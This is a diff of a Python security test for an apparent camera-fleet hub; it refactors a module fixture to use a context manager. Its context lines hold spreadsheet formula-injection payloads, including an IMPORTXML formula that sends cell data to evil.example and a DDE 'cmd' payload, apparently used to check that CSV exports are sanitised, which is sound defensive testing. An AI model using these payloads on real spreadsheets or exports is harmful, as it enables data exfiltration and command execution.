@@ -20,7 +20,7 @@ from PIL import Image
 
 from camfleet_contract.messages import Event, Prediction
 from camfleet_hub.fleet.events import ValidEvent, site_ids, store_events
-from tests.security.world import API, World, build_world
+from tests.security.world import API, World, running_world
 
 FORMULAS = ["=IMPORTXML(CONCAT('https://evil.example/?',A2),'//a')", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
 STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -29,13 +29,8 @@ STARTS = ("=", "+", "-", "@", "\t", "\r")
 @pytest.fixture(scope="module")
 def world(tmp_path_factory: pytest.TempPathFactory, mosquitto: Any, clothing_subset: Any) -> Iterator[World]:
     """Site A's model promoted, so a viewer's /classify reaches the model and is logged."""
-    w = build_world(tmp_path_factory.mktemp("csv"), mosquitto, clothing_subset)
-    assert w.admin.post(f"{API}/models/{w.sites['a'].model_id}/promote").status_code == 200
-    try:
+    with running_world(tmp_path_factory.mktemp("csv"), mosquitto, clothing_subset, promote=True) as w:
         yield w
-    finally:
-        w.admin.__exit__(None, None, None)
-        w.hub.stop()
 
 
 def _jpeg() -> bytes:
